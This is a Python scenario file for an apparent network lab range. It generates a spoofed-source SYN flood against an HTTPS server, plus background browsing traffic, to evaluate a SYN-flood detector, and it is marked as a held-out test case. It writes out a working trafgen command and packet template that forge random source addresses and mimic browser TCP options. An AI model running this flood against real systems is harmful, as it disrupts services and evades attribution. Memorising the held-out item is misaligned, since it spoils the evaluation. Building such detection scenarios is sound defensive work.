"""trafgen: SYNs that look like those of browsers, from random sources."""

from lab.range import Range
from lab.scenario import Scenario

ROUTER_OUTSIDE = "00:25:90:51:00:01"


def run(net: Range) -> None:
    attacker, web = net.outside("attacker"), net.web()
    visitor2 = net.outside("visitor2")
    net.everyday()
    net.loop(visitor2, f"curl -s -k -m 3 -o /dev/null https://{web.ip}/", 0.8)
    with net.attack(
        "syn-flood",
        by=attacker,
        victims=[web],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"tcp and dst host {web.ip} and dst port 443",
        responses=f"tcp and src host {web.ip} and src port 443 and tcp[tcpflags] & tcp-syn != 0",
    ):
        # Two words of options: MSS 1460, SACK permitted.
        packet = (
            f"{{ eth(saddr={attacker.mac}, daddr={ROUTER_OUTSIDE}), ipv4(saddr=drnd(), daddr={web.ip}, df,"
            " ttl=113), tcp(sport=drnd(), dport=443, seq=drnd(), doff=7, syn, window=64240),"
            " 0x02, 0x04, 0x05, 0xb4, 0x01, 0x01, 0x04, 0x02 }"
        )
        words = "trafgen -o eth0 -n 1800 -t 4ms -P 1"
        net.tool(attacker, *words.split(), packet)
    net.quiet(3)


SCENARIO = Scenario(
    name="syn-flood-held-trafgen",
    about="trafgen sends 240 SYNs a second with TCP options from random sources to an HTTPS server in use.",
    detectors=("syn-flood",),
    tools={"trafgen": "netsniff-ng"},
    held_out=True,
    snap_octets=80,
    run=run,
)
